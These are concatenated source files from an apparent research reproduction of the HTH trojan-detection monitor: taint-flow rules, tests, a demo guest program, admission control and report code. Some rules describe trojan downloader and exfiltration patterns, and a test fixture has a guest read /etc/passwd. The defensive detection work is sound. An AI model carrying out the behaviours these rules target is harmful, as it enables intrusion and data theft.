                source_origin,
                bindings["resource_origin"],
                source_server_hard,
                target_server_hard,
            )
            if severity is not None:
                out.append((tag, source_origin, severity))
        return out

    def resource_flow_applies(bindings) -> bool:
        if bindings["resource_type"] not in ("FILE", "SOCKET"):
            return False
        return bool(resource_flow_pairs(bindings))

    def resource_flow_action(ctx: RuleContext) -> None:
        target_origin: TagSet = ctx["resource_origin"]
        for tag, source_origin, severity in resource_flow_pairs(ctx.bindings):
            source_desc = tag.name
            if tag.source is DataSource.SOCKET:
                source_desc = f"{tag.name} (AF_INET)"
            details = [
                f"Data Flowing From: {source_desc} "
                f"To: {b._target_desc(ctx)}"
            ]
            source_kind = (
                "filename" if tag.source is DataSource.FILE else "socket-name"
            )
            note = _origin_note(
                policy, f"source {source_kind}", source_origin
            )
            if note:
                details.append(note)
            target_kind = (
                "file-name" if ctx["resource_type"] == "FILE"
                else "socket-name"
            )
            note = _origin_note(policy, f"target {target_kind}", target_origin)
            if note:
                details.append(note)
            details.extend(b._server_source_notes(ctx))
            details.extend(b._server_target_notes(ctx))
            details.extend(b._rare_note(ctx))
            b._warn(
                ctx,
                "check_resource_flow",
                severity,
                "Found Write call",
                details,
            )

    rules.append(
        Rule(
            name="check_resource_flow",
            doc="File/socket contents flowing to files/sockets with "
                "suspicious identifier origins",
            lhs=[write_pattern, Test(resource_flow_applies)],
            action=resource_flow_action,
        )
    )

    # ---- executable content downloaded to disk (section 10 item 5) --------
    def exe_download_applies(bindings) -> bool:
        if bindings["resource_type"] != "FILE":
            return False
        if bindings["content_type"] not in ("executable", "script"):
            return False
        data: TagSet = bindings["data_tags"]
        return data.has_source(DataSource.SOCKET)

    def exe_download_action(ctx: RuleContext) -> None:
        name = ctx["resource_name"]
        sources = ", ".join(
            f'("{t.name}")' for t in ctx["data_tags"]
            if t.source is DataSource.SOCKET and t.name
        )
        details = [
            f"The content being saved is {ctx['content_type']} code "
            f"downloaded from the network: {sources}",
        ]
        note = _origin_note(
            policy, "the file name", ctx["resource_origin"]
        )
        if note:
            details.append(note)
        details.extend(b._rare_note(ctx))
        b._warn(
            ctx,
            "check_executable_download",
            Severity.HIGH,
            f"Found Write call to {name} (downloaded executable)",
            details,
        )

    rules.append(
        Rule(
            name="check_executable_download",
            doc="Executable content arriving from the network and being "
                "saved to disk (the Trojan.Lodeight downloader pattern)",
            lhs=[write_pattern, Test(exe_download_applies)],
            action=exe_download_action,
        )
    )
    return rules
