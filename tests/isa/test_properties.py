"""Property-based tests over the assembler + CPU: randomized straight-line
programs must compute the same results as a Python model, and taint must
stay conservative."""

from hypothesis import given, settings
from hypothesis import strategies as st

from repro.core.hth import HTH
from repro.isa import CPU, FlatMemory, assemble
from repro.taint import DataSource

_OPS = {
    "add": lambda a, b: a + b,
    "sub": lambda a, b: a - b,
    "mul": lambda a, b: a * b,
    "xor": lambda a, b: a ^ b,
    "and": lambda a, b: a & b,
    "or": lambda a, b: a | b,
}

_op_strategy = st.sampled_from(sorted(_OPS))
_val_strategy = st.integers(-1000, 1000)


@st.composite
def straight_line_program(draw):
    """A random sequence of ALU ops on eax, plus the expected result."""
    initial = draw(_val_strategy)
    steps = draw(
        st.lists(st.tuples(_op_strategy, _val_strategy), min_size=1,
                 max_size=12)
    )
    lines = [f"main:", f"    mov eax, {initial}"]
    value = initial
    for op, operand in steps:
        lines.append(f"    {op} eax, {operand}")
        value = _OPS[op](value, operand)
    lines.append("    ret")
    return "\n".join(lines), value


class TestComputationalEquivalence:
    @given(straight_line_program())
    @settings(max_examples=60, deadline=None)
    def test_alu_sequences_match_python(self, program):
        source, expected = program
        image = assemble("/bin/prop", source)
        memory = FlatMemory()
        memory.map_code(0x1000, image.text)
        cpu = CPU(memory, entry=0x1000)
        cpu.regs.set("esp", 0x8000)
        memory.write(0x7FFF, 0xDEAD)  # fake return address for ret
        for _ in range(len(image.text) + 1):
            result = cpu.step()
            if result.ret_target is not None:
                break
        assert cpu.regs.get("eax") == expected

    @given(st.lists(st.integers(0, 255), min_size=1, max_size=16))
    @settings(max_examples=30, deadline=None)
    def test_word_data_round_trips_through_image(self, values):
        words = ", ".join(str(v) for v in values)
        image = assemble("/bin/t", f"main: ret\n.data\ntbl: .word {words}")
        base = image.symbols["tbl"]
        assert [image.data[base + i] for i in range(len(values))] == values


class TestTaintConservativeness:
    @given(straight_line_program())
    @settings(max_examples=20, deadline=None)
    def test_constant_computation_is_binary_only(self, program):
        """A value computed purely from immediates carries at most
        BINARY taint (of the program) — never USER/FILE/SOCKET."""
        source, _ = program
        # store the result so the shadow memory is inspectable
        source = source.replace(
            "    ret",
            "    mov edi, out\n    store [edi], eax\n    mov eax, 0\n    ret",
        )
        source += "\n.data\nout: .space 1\n"
        hth = HTH()
        proc_holder = {}
        original = hth.kernel.spawn

        def capture(*a, **k):
            proc_holder["proc"] = original(*a, **k)
            return proc_holder["proc"]

        hth.kernel.spawn = capture
        from repro.isa import assemble as asm

        hth.run(asm("/bin/prop", source))
        proc = proc_holder["proc"]
        shadow = hth.harrier.shadow(proc)
        addr = proc.image_map.app.symbol_addr("out")
        tags = shadow.memory.get(addr)
        assert tags.sources() <= {DataSource.BINARY}
        for name in tags.names_for(DataSource.BINARY):
            assert name == "/bin/prop"
