; telemetry_demo.s — a small guest that exercises every telemetry layer:
; file creation/read-back (fs syscalls + FILE-taint dataflow), a console
; write (the tainted bytes reach an output channel), and enough basic
; blocks for the bbfreq counters to matter.
;
;     python -m repro profile examples/telemetry_demo.s
;     python -m repro run examples/telemetry_demo.s --trace trace.json --metrics

main:
    ; stash a payload in a scratch file
    mov ebx, path
    call creat
    mov esi, eax            ; fd
    mov ebx, payload
    call strlen
    mov edx, eax
    mov ebx, esi
    mov ecx, payload
    call write
    mov ebx, esi
    call close

    ; read it back — buf now carries FILE provenance
    mov ebx, path
    mov ecx, 0
    call open
    mov esi, eax
    mov ebx, esi
    mov ecx, buf
    mov edx, 63
    call read
    mov edi, eax            ; bytes read
    mov ebx, esi
    call close

    ; echo the tainted bytes to the console
    mov ebx, 1
    mov ecx, buf
    mov edx, edi
    call write

    mov ebx, 0
    call exit

.data
payload: .asciz "telemetry-demo-payload"
path:    .asciz "/tmp/demo.txt"
buf:     .space 64
