"""Admission control: bounded queueing, tenant rate limits, tick budgets.

The daemon's first robustness promise is *bounded memory under
overload*: every submission either enters a queue whose depth is capped,
or is rejected immediately with an explicit reason — the client always
learns which, and the daemon never buffers unbounded work.  The second
is *fairness*: one hot tenant must not starve the rest, so admission
meters each tenant twice —

* a **submission token bucket** (``rate``/``burst`` submissions per
  second) bounds request frequency;
* a **tick token bucket** (``tick_rate``/``tick_burst`` guest ticks per
  second) bounds requested *compute*: a submission's cost is its
  ``max_ticks`` budget, so a tenant shipping huge runs drains its
  allowance proportionally faster than one shipping small ones.

Rejection reasons are stable protocol strings (:data:`REASON_QUEUE_FULL`
et al.) and every decision is counted in the metrics registry.  The
clock is injectable, so admission behavior is deterministic under test.
"""

from __future__ import annotations

import time
from dataclasses import dataclass
from typing import Callable, Dict, Optional

REASON_QUEUE_FULL = "queue-full"
REASON_RATE_LIMITED = "rate-limited"
REASON_TICK_BUDGET = "tick-budget"
REASON_SHUTTING_DOWN = "shutting-down"
REASON_INVALID = "invalid-submission"


class TokenBucket:
    """A classic token bucket with lazy refill and injectable clock."""

    def __init__(
        self,
        rate: float,
        burst: float,
        clock: Callable[[], float] = time.monotonic,
    ) -> None:
        if rate <= 0 or burst <= 0:
            raise ValueError("rate and burst must be positive")
        self.rate = float(rate)
        self.burst = float(burst)
        self._clock = clock
        self._tokens = float(burst)
        self._stamp = clock()

    def _refill(self) -> None:
        now = self._clock()
        elapsed = now - self._stamp
        if elapsed > 0:
            self._tokens = min(self.burst, self._tokens + elapsed * self.rate)
            self._stamp = now

    def try_take(self, cost: float = 1.0) -> bool:
        """Take ``cost`` tokens if available; never blocks."""
        self._refill()
        if self._tokens >= cost:
            self._tokens -= cost
            return True
        return False

    @property
    def tokens(self) -> float:
        self._refill()
        return self._tokens


@dataclass
class _TenantState:
    submissions: TokenBucket
    ticks: Optional[TokenBucket]


class AdmissionController:
    """Decide, per submission, between a queue slot and a typed rejection.

    ``queue_limit`` bounds submissions *in the system* (queued or
    executing): :meth:`try_admit` claims a slot, :meth:`release` returns
    it when the submission is answered — by a report, a contained error,
    or a rejection further down the line.  Tenant limiters are created
    on first sight of a tenant name; ``rate=None`` / ``tick_rate=None``
    disable that meter entirely (the bench harness runs wide open).

    Admission is two-phase so the daemon can order it around the verdict
    cache: :meth:`precheck` (draining + submission rate) runs before any
    per-submission compute and meters *all* traffic, cache hits
    included; :meth:`claim_slot` (queue depth + tick budget) runs only
    for submissions that will really execute.  :meth:`try_admit` is the
    one-shot composition.
    """

    def __init__(
        self,
        queue_limit: int = 64,
        rate: Optional[float] = None,
        burst: Optional[float] = None,
        tick_rate: Optional[float] = None,
        tick_burst: Optional[float] = None,
        clock: Callable[[], float] = time.monotonic,
        metrics=None,
    ) -> None:
        if queue_limit < 1:
            raise ValueError("queue_limit must be >= 1")
        self.queue_limit = queue_limit
        self.rate = rate
        self.burst = burst if burst is not None else (rate or 0) * 2
        self.tick_rate = tick_rate
        self.tick_burst = (
            tick_burst if tick_burst is not None else (tick_rate or 0) * 2
        )
        self._clock = clock
        self._tenants: Dict[str, _TenantState] = {}
        self.depth = 0
        self.draining = False
        self._metrics = metrics

    # -- metrics -----------------------------------------------------------
    def _count(self, admitted: bool, tenant: str, reason: str = "") -> None:
        if self._metrics is None:
            return
        if admitted:
            self._metrics.counter(
                "serve_admitted_total", tenant=tenant
            ).inc()
        else:
            self._metrics.counter(
                "serve_rejected_total", tenant=tenant, reason=reason
            ).inc()
        self._metrics.gauge("serve_queue_depth").set(self.depth)

    # -- tenant state ------------------------------------------------------
    def _tenant(self, name: str) -> _TenantState:
        state = self._tenants.get(name)
        if state is None:
            state = _TenantState(
                submissions=TokenBucket(
                    self.rate or 1.0, self.burst or 1.0, self._clock
                ),
                ticks=(
                    TokenBucket(
                        self.tick_rate, self.tick_burst, self._clock
                    )
                    if self.tick_rate is not None else None
                ),
            )
            self._tenants[name] = state
        return state

    # -- decisions ---------------------------------------------------------
    def precheck(self, tenant: str) -> Optional[str]:
        """Phase-1 admission: draining state + the per-tenant submission
        rate bucket.  Return ``None`` to proceed or a rejection reason.

        This is deliberately cheap (no queue slot, no tick spend) so the
        daemon can run it *before* any per-submission work — assembling
        untrusted sources, digesting cache keys, triage.  It charges a
        rate token for every submission, cache hits included: a client
        replaying a cached submission is still metered, so replay storms
        stay bounded even though hits never claim a queue slot.
        """
        if self.draining:
            self._count(False, tenant, REASON_SHUTTING_DOWN)
            return REASON_SHUTTING_DOWN
        if self.rate is not None and not self._tenant(
            tenant
        ).submissions.try_take():
            self._count(False, tenant, REASON_RATE_LIMITED)
            return REASON_RATE_LIMITED
        return None

    def claim_slot(self, tenant: str, max_ticks: int) -> Optional[str]:
        """Phase-2 admission: claim a queue slot and charge the tick
        budget.  Only submissions that will really execute (cache
        misses) reach this; :meth:`release` returns the slot."""
        if self.draining:
            self._count(False, tenant, REASON_SHUTTING_DOWN)
            return REASON_SHUTTING_DOWN
        if self.depth >= self.queue_limit:
            self._count(False, tenant, REASON_QUEUE_FULL)
            return REASON_QUEUE_FULL
        state = self._tenant(tenant)
        if state.ticks is not None and not state.ticks.try_take(
            float(max_ticks)
        ):
            self._count(False, tenant, REASON_TICK_BUDGET)
            return REASON_TICK_BUDGET
        self.depth += 1
        self._count(True, tenant)
        return None

    def try_admit(self, tenant: str, max_ticks: int) -> Optional[str]:
        """Claim a queue slot for ``tenant``; return ``None`` on success
        or the rejection reason string.  Equivalent to :meth:`precheck`
        followed by :meth:`claim_slot`."""
        reason = self.precheck(tenant)
        if reason is not None:
            return reason
        return self.claim_slot(tenant, max_ticks)

    def release(self) -> None:
        """Return one claimed slot (the submission was answered)."""
        if self.depth > 0:
            self.depth -= 1
        if self._metrics is not None:
            self._metrics.gauge("serve_queue_depth").set(self.depth)

    def drain(self) -> None:
        """Stop admitting: every new submission gets ``shutting-down``."""
        self.draining = True
