"""Run reports and verdicts."""

from __future__ import annotations

import enum
import json
from dataclasses import dataclass, field
from typing import Dict, List, Optional, Tuple

from repro.harrier.events import SecurityEvent
from repro.kernel.kernel import RunResult
from repro.secpert.warnings import SecurityWarning, Severity
from repro.telemetry import TelemetrySnapshot

#: Version of the ``RunReport.to_dict()`` wire format.  Fleet result
#: streams and archived report JSON carry this so consumers can detect
#: and adapt to schema evolution; bump it on any breaking change to the
#: dict layout and document the change in ``docs/observability.md``.
#: v2: per-warning ``evidence`` trails + the top-level ``provenance``
#: recorder summary (see :mod:`repro.telemetry.provenance`).
REPORT_SCHEMA_VERSION = 2


class Verdict(enum.Enum):
    """Classification of one monitored run by its strongest warning."""

    BENIGN = "benign"        # no warnings at all
    LOW = "low"
    MEDIUM = "medium"
    HIGH = "high"

    @classmethod
    def from_severity(cls, severity: Optional[Severity]) -> "Verdict":
        if severity is None:
            return cls.BENIGN
        return {
            Severity.LOW: cls.LOW,
            Severity.MEDIUM: cls.MEDIUM,
            Severity.HIGH: cls.HIGH,
        }[severity]

    @property
    def flagged(self) -> bool:
        return self is not Verdict.BENIGN


@dataclass
class RunReport:
    """Everything HTH observed about one program run."""

    program: str
    argv: List[str]
    result: RunResult
    warnings: List[SecurityWarning]
    events: List[SecurityEvent]
    console_output: str
    exit_code: Optional[int]
    killed_by_monitor: bool = False
    faults: List[Tuple[int, str]] = field(default_factory=list)
    #: Seed of the fault injector, when the run was chaos-perturbed.
    #: ``repro chaos --seed <this>`` replays the exact fault schedule.
    fault_seed: Optional[int] = None
    #: Faults the injector delivered (InjectedFault records, in order).
    injected_faults: List[object] = field(default_factory=list)
    #: Events discarded because the bounded Harrier log overflowed.
    events_dropped: int = 0
    #: Contained monitor-side failures (harrier.monitor.MonitorFault).
    #: Deliberately *not* part of ``warnings``: a monitor fault reports
    #: on the monitor, not the guest, so it must not move the verdict.
    monitor_faults: List[object] = field(default_factory=list)
    #: Secpert rules quarantined after raising during this run.
    quarantined_rules: List[str] = field(default_factory=list)
    #: Telemetry snapshot (metrics/profile/span count) when the run was
    #: made with an enabled hub; ``None`` for the zero-overhead default.
    telemetry: Optional[TelemetrySnapshot] = None
    #: Provenance recorder summary (token/source/waypoint counts) when
    #: evidence trails were recorded; ``None`` when disabled.
    provenance: Optional[Dict[str, object]] = None

    @property
    def max_severity(self) -> Optional[Severity]:
        if not self.warnings:
            return None
        return max(w.severity for w in self.warnings)

    @property
    def verdict(self) -> Verdict:
        return Verdict.from_severity(self.max_severity)

    @property
    def flagged(self) -> bool:
        return bool(self.warnings)

    def warning_counts(self) -> Dict[str, int]:
        counts = {"LOW": 0, "MEDIUM": 0, "HIGH": 0}
        for warning in self.warnings:
            counts[warning.severity.label()] += 1
        return counts

    def warnings_by_rule(self, rule: str) -> List[SecurityWarning]:
        return [w for w in self.warnings if w.rule == rule]

    def render_warnings(self) -> str:
        return "\n\n".join(w.render() for w in self.warnings)

    @property
    def degraded(self) -> bool:
        """True when the monitor itself took damage during this run."""
        return bool(
            self.monitor_faults
            or self.quarantined_rules
            or self.events_dropped
        )

    def to_dict(self) -> Dict[str, object]:
        """The whole report as JSON-ready primitives (machine-readable
        twin of the markdown report; ``repro report`` writes both)."""
        return {
            "schema_version": REPORT_SCHEMA_VERSION,
            "program": self.program,
            "argv": list(self.argv),
            "verdict": self.verdict.value,
            "flagged": self.flagged,
            "exit_code": self.exit_code,
            "killed_by_monitor": self.killed_by_monitor,
            "result": {
                "reason": self.result.reason,
                "ticks": self.result.ticks,
                "instructions": self.result.instructions,
                "exit_codes": dict(self.result.exit_codes),
            },
            "warnings": [
                {
                    "rule": w.rule,
                    "severity": w.severity.label(),
                    "headline": w.headline,
                    "pid": w.pid,
                    "time": w.time,
                    "evidence": w.evidence,
                }
                for w in self.warnings
            ],
            "warning_counts": self.warning_counts(),
            "event_count": len(self.events),
            "events_dropped": self.events_dropped,
            "faults": [list(f) for f in self.faults],
            "fault_seed": self.fault_seed,
            "injected_fault_count": len(self.injected_faults),
            "injected_faults": [str(f) for f in self.injected_faults],
            "monitor_faults": [str(f) for f in self.monitor_faults],
            "quarantined_rules": list(self.quarantined_rules),
            "degraded": self.degraded,
            "console_output": self.console_output,
            "telemetry": (
                self.telemetry.to_dict()
                if self.telemetry is not None
                else None
            ),
            "provenance": self.provenance,
        }

    def to_json(self, indent: int = 2) -> str:
        return json.dumps(self.to_dict(), indent=indent, default=str)

    def summary_line(self) -> str:
        counts = self.warning_counts()
        graded = " ".join(
            f"{label}={count}" for label, count in counts.items() if count
        )
        extras = []
        if self.fault_seed is not None:
            extras.append(
                f"chaos seed={self.fault_seed} "
                f"faults={len(self.injected_faults)}"
            )
        if self.degraded:
            extras.append("DEGRADED")
        return (
            f"{self.program}: verdict={self.verdict.value}"
            + (f" ({graded})" if graded else "")
            + (f" [{'; '.join(extras)}]" if extras else "")
        )
