"""PolicyConfig filter/predicate tests."""

from repro.secpert.policy import PolicyConfig
from repro.taint import DataSource, TagSet, union_all


def ts(*pairs):
    return union_all([TagSet.of(src, name) for src, name in pairs])


class TestFilters:
    def test_filter_binary_drops_trusted(self):
        policy = PolicyConfig()
        origin = ts(
            (DataSource.BINARY, "/lib/libc.so"),
            (DataSource.BINARY, "/home/evil"),
        )
        assert policy.filter_binary(origin) == ("/home/evil",)

    def test_filter_binary_empty_when_all_trusted(self):
        policy = PolicyConfig()
        origin = ts((DataSource.BINARY, "/lib/libc.so"),
                    (DataSource.BINARY, "[startup]"))
        assert policy.filter_binary(origin) == ()

    def test_filter_socket_default_trusts_none(self):
        policy = PolicyConfig()
        origin = ts((DataSource.SOCKET, "evil:80"))
        assert policy.filter_socket(origin) == ("evil:80",)

    def test_filter_socket_with_trusted_set(self):
        policy = PolicyConfig(trusted_sockets=frozenset({"good:443"}))
        origin = ts((DataSource.SOCKET, "good:443"),
                    (DataSource.SOCKET, "bad:80"))
        assert policy.filter_socket(origin) == ("bad:80",)

    def test_custom_trusted_binaries(self):
        policy = PolicyConfig(trusted_binaries=frozenset({"/bin/vendor"}))
        origin = ts((DataSource.BINARY, "/bin/vendor"))
        assert not policy.is_hardcoded(origin)


class TestPredicates:
    def test_is_hardcoded(self):
        policy = PolicyConfig()
        assert policy.is_hardcoded(ts((DataSource.BINARY, "/app")))
        assert not policy.is_hardcoded(ts((DataSource.USER_INPUT, None)))
        assert not policy.is_hardcoded(TagSet.empty())

    def test_from_socket(self):
        policy = PolicyConfig()
        assert policy.from_socket(ts((DataSource.SOCKET, "x:1")))
        assert not policy.from_socket(ts((DataSource.FILE, "/f")))

    def test_from_user(self):
        policy = PolicyConfig()
        assert policy.from_user(ts((DataSource.USER_INPUT, None)))
        assert not policy.from_user(ts((DataSource.BINARY, "/app")))

    def test_is_rare_needs_both_conditions(self):
        policy = PolicyConfig(rare_frequency=2, long_time=100)
        assert policy.is_rare(frequency=1, time=101)
        assert not policy.is_rare(frequency=2, time=101)   # too frequent
        assert not policy.is_rare(frequency=1, time=100)   # too early
