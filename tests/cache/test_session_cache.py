"""Session-level verdict caching: hits, bypasses, and invalidation edges.

The contract: a hit is bit-identical to execution (``to_dict``,
rendered warnings, raw events), any single-ingredient change misses,
and every run that could observe non-deterministic or side-channel
state (faults, telemetry, custom analyzers, opaque setup closures)
bypasses the cache entirely.
"""

import json

from repro.api import CacheEnv, Session, VerdictCache
from repro.cache.digest import workload_key
from repro.core.options import RunOptions
from repro.fleet.refs import WorkloadRef
from repro.programs.base import Workload
from repro.telemetry import Telemetry

SOURCE = """
.data
msg: .asciz "/etc/passwd"
.text
main:
    mov eax, 5
    mov ebx, msg
    int 0x80
    mov eax, 1
    mov ebx, 0
    int 0x80
"""

TROJAN = WorkloadRef.from_registry("4", "Remote execve")


def _dump(report):
    return json.dumps(report.to_dict(), sort_keys=True, default=str)


def _session():
    return Session(cache=VerdictCache())


class TestRunHits:
    def test_hit_is_bit_identical(self):
        session = _session()
        fresh = session.run(SOURCE, stdin="hello")
        hit = session.run(SOURCE, stdin="hello")
        assert session.cache.stats.hits == 1
        assert hit is not fresh  # a fresh object graph, not the original
        assert _dump(hit) == _dump(fresh)
        assert [str(e) for e in hit.events] == \
            [str(e) for e in fresh.events]
        assert hit.render_warnings() == fresh.render_warnings()

    def test_single_byte_stdin_perturbation_misses(self):
        session = _session()
        session.run(SOURCE, stdin="hello")
        session.run(SOURCE, stdin="hellp")
        session.run(SOURCE, stdin="hello\x00")
        assert session.cache.stats.hits == 0
        assert session.cache.stats.misses == 3

    def test_single_instruction_perturbation_misses(self):
        session = _session()
        session.run(SOURCE)
        session.run(SOURCE.replace("mov ebx, 0", "mov ebx, 1"))
        assert session.cache.stats.hits == 0

    def test_options_field_perturbation_misses(self):
        session = _session()
        session.run(SOURCE)
        session.run(SOURCE, options=RunOptions(max_ticks=4_999_999))
        session.run(SOURCE, options=RunOptions(provenance=False))
        assert session.cache.stats.hits == 0
        assert session.cache.stats.misses == 3

    def test_argv_and_path_perturbation_miss(self):
        session = _session()
        session.run(SOURCE, argv=["/bin/guest", "a"])
        session.run(SOURCE, argv=["/bin/guest", "b"])
        session.run(SOURCE, argv=["/bin/guest", "a"], path="/bin/other")
        assert session.cache.stats.hits == 0


class TestBypasses:
    def test_disabled_via_options(self):
        session = _session()
        session.run(SOURCE, options=RunOptions(cache=False))
        session.run(SOURCE, options=RunOptions(cache=False))
        assert session.cache.stats.hits == 0
        assert session.cache.stats.misses == 0
        assert session.cache.stats.bypass == {"disabled": 2}

    def test_fault_profile_bypasses(self):
        from repro.faultinject import TRANSPARENT_PROFILE

        session = _session()
        options = RunOptions(fault_profile=TRANSPARENT_PROFILE)
        workload = TROJAN.resolve()
        session.run_workload(workload, options=options)
        session.run_workload(workload, options=options)
        assert session.cache.stats.bypass == {"faults": 2}
        assert session.cache.stats.hits == 0

    def test_telemetry_bypasses(self):
        session = _session()
        hub = Telemetry.enabled()
        session.run(SOURCE, telemetry=hub)
        session.run(SOURCE, telemetry=hub)
        assert session.cache.stats.bypass == {"telemetry": 2}

    def test_session_wide_telemetry_bypasses(self):
        session = Session(telemetry=Telemetry.enabled(),
                          cache=VerdictCache())
        session.run(SOURCE)
        assert session.cache.stats.bypass == {"telemetry": 1}

    def test_opaque_setup_bypasses_but_cache_env_does_not(self):
        session = _session()

        def seed(hth):
            hth.fs.write_text("/etc/flag", "x")

        session.run(SOURCE, setup=seed)
        assert session.cache.stats.bypass == {"opaque-setup": 1}

        env = CacheEnv.from_mappings({"/etc/flag": "x"}, {})
        session.run(SOURCE, setup=seed, cache_env=env)
        hit = session.run(SOURCE, setup=seed, cache_env=env)
        assert session.cache.stats.hits == 1
        assert hit.program  # a real report came back

    def test_no_cache_attached_is_a_plain_run(self):
        session = Session()
        report = session.run(SOURCE)
        assert session.cache is None
        assert report.verdict is not None


class TestWorkloadCaching:
    def test_workload_hit_is_bit_identical(self):
        session = _session()
        workload = TROJAN.resolve()
        fresh = session.run_workload(workload)
        hit = session.run_workload(workload)
        assert session.cache.stats.hits == 1
        assert _dump(hit) == _dump(fresh)
        assert hit.render_warnings() == fresh.render_warnings()

    def test_wall_timeout_option_participates_in_the_key(self):
        session = _session()
        workload = TROJAN.resolve()
        session.run_workload(workload)
        session.run_workload(
            workload, options=RunOptions(wall_timeout=120.0)
        )
        assert session.cache.stats.hits == 0
        assert session.cache.stats.misses == 2


class TestInvalidationEdges:
    """Satellite 3: adjacent content that must never share a key."""

    def _workload(self, **overrides):
        base = dict(name="w", program_path="/bin/w", source=SOURCE,
                    description="d")
        base.update(overrides)
        return Workload(**base)

    def test_same_source_different_registry_name(self):
        options = RunOptions()
        a = workload_key(self._workload(), options)
        b = workload_key(self._workload(name="w2"), options)
        assert a != b

    def test_same_source_different_guest_path(self):
        options = RunOptions()
        a = workload_key(self._workload(), options)
        b = workload_key(self._workload(program_path="/bin/other"), options)
        assert a != b

    def test_differing_fault_profile_or_seed_keys_distinctly(self):
        # Fault runs bypass the cache at runtime; the keys must differ
        # anyway so a policy regression cannot alias them.
        from repro.faultinject import SEMANTIC_PROFILE, TRANSPARENT_PROFILE

        w = self._workload()
        plain = workload_key(w, RunOptions())
        transparent = workload_key(
            w, RunOptions(fault_profile=TRANSPARENT_PROFILE)
        )
        semantic = workload_key(
            w, RunOptions(fault_profile=SEMANTIC_PROFILE)
        )
        reseeded = workload_key(
            w, RunOptions(fault_profile=TRANSPARENT_PROFILE, fault_seed=9)
        )
        assert len({plain, transparent, semantic, reseeded}) == 4

    def test_provenance_toggle_keys_distinctly(self):
        w = self._workload()
        assert workload_key(w, RunOptions(provenance=True)) != \
            workload_key(w, RunOptions(provenance=False))

    def test_stdin_and_env_key_distinctly(self):
        options = RunOptions()
        base = workload_key(self._workload(), options)
        assert workload_key(self._workload(stdin="x"), options) != base
        assert workload_key(
            self._workload(env={"A": "1"}), options
        ) != base

    def test_watchdog_outcome_is_not_cached_so_retries_execute(self):
        session = _session()
        workload = TROJAN.resolve()
        deadline = RunOptions(wall_timeout=0.0)
        report = session.run_workload(workload, options=deadline)
        assert report.result.reason == "watchdog"
        assert session.cache.stats.store_skips == 1
        # The retry re-executes (a miss, not a cached watchdog).
        again = session.run_workload(workload, options=deadline)
        assert again.result.reason == "watchdog"
        assert session.cache.stats.hits == 0
