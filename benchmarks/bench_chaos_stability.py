"""Chaos stability — the Table 8 exploits re-detected under injected
faults.

The property under test: HTH's verdict for every real exploit is
*unchanged* across 10 distinct deterministic fault schedules
(semantics-preserving stalls plus scheduler jitter — the transparent
profile).  A second leg runs the guest-visible semantic profile
(errno/reset/DNS faults) and asserts graceful degradation: no hang, no
crash, a coherent report per run.
"""

from benchmarks.harness import render_table, write_result, once
from repro.faultinject import (
    SEMANTIC_PROFILE,
    TRANSPARENT_PROFILE,
    run_chaos_suite,
)
from repro.programs.exploits.registry import table8_workloads

TRIALS = 10
BASE_SEED = 1337


def _rows(results):
    rows = []
    for result in results:
        verdicts = ",".join(sorted({v.value for v in result.verdicts}))
        rows.append(
            (
                result.workload,
                result.expected.value,
                verdicts,
                str(result.total_faults),
                "yes" if result.stable else "NO",
            )
        )
    return rows


def bench_chaos_table8_stability(benchmark):
    results = once(
        benchmark,
        lambda: run_chaos_suite(
            table8_workloads(),
            base_seed=BASE_SEED,
            trials=TRIALS,
            profile=TRANSPARENT_PROFILE,
        ),
    )
    text = render_table(
        f"Chaos stability: Table 8 verdicts under {TRIALS} fault seeds",
        ("benchmark", "paper verdict", "verdicts seen", "faults", "stable"),
        _rows(results),
    )
    write_result("chaos_stability.txt", text)
    print("\n" + text)
    unstable = [r.workload for r in results if not r.stable]
    assert not unstable, (
        f"verdict changed under transparent faults: {unstable}; replay "
        f"with `repro chaos --table 8 --workload <name> --seed <seed>`"
    )
    # The schedules did perturb the runs (faults actually landed).
    assert sum(r.total_faults for r in results) > 0


def bench_chaos_table8_sharded(benchmark):
    """The same stability sweep through the fleet path: sharding the
    (workload × seed) grid across processes must not change a single
    trial — (workload, profile, seed) determines each run bit-for-bit."""
    from repro.fleet import WorkloadRef

    refs = [
        WorkloadRef.from_registry("8", w.name)
        for w in table8_workloads()
    ]
    sharded = once(
        benchmark,
        lambda: run_chaos_suite(
            refs,
            base_seed=BASE_SEED,
            trials=TRIALS,
            profile=TRANSPARENT_PROFILE,
            workers=2,
        ),
    )
    serial = run_chaos_suite(
        table8_workloads(),
        base_seed=BASE_SEED,
        trials=TRIALS,
        profile=TRANSPARENT_PROFILE,
    )
    assert [r.workload for r in sharded] == [r.workload for r in serial]
    for s_result, f_result in zip(serial, sharded):
        assert f_result.stable == s_result.stable
        assert f_result.verdicts == s_result.verdicts
        assert f_result.total_faults == s_result.total_faults
        assert [t.reason for t in f_result.trials] == (
            [t.reason for t in s_result.trials]
        )


def bench_chaos_table8_graceful_degradation(benchmark):
    results = once(
        benchmark,
        lambda: run_chaos_suite(
            table8_workloads(),
            base_seed=BASE_SEED,
            trials=TRIALS,
            profile=SEMANTIC_PROFILE,
        ),
    )
    # Guest-visible faults may legitimately move a verdict (an exploit
    # whose connect is reset has nothing to exfiltrate), so the asserted
    # property is weaker: every run terminates cleanly.
    for result in results:
        for trial in result.trials:
            assert trial.reason != "watchdog", (
                f"{result.workload} wedged under seed {trial.seed}"
            )
