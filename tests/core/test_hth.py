"""HTH facade and report tests."""

import pytest

from repro.core import HTH, RunReport, Verdict, run_monitored, stub_binary
from repro.core.hth import STANDARD_BINARIES
from repro.isa import assemble
from repro.secpert.warnings import Severity


HELLO = """
main:
    mov ebx, msg
    call print
    mov eax, 0
    ret
.data
msg: .asciz "hello"
"""

EVIL = """
main:
    mov ebx, prog
    mov ecx, 0
    mov edx, 0
    call execve
    mov eax, 0
    ret
.data
prog: .asciz "/bin/ls"
"""


class TestFacade:
    def test_run_returns_report(self):
        report = HTH().run(assemble("/bin/hello", HELLO))
        assert isinstance(report, RunReport)
        assert report.console_output == "hello"
        assert report.exit_code == 0
        assert report.verdict is Verdict.BENIGN
        assert not report.flagged

    def test_standard_binaries_registered(self):
        hth = HTH()
        for path in STANDARD_BINARIES:
            assert path in hth.kernel.binaries

    def test_install_stubs_disabled(self):
        hth = HTH(install_stubs=False)
        assert "/bin/sh" not in hth.kernel.binaries

    def test_stub_binary_instances_are_isolated(self):
        # Assembly is cached, but each call gets its own mutable
        # containers so one machine's loader state can't leak into
        # another (the shared-lru_cache hazard).
        a, b = stub_binary("/bin/x"), stub_binary("/bin/x")
        assert a is not b
        assert a.name == b.name and a.text is b.text
        a.data[999] = 42
        a.symbols["mutant"] = 1
        assert 999 not in b.data
        assert "mutant" not in b.symbols
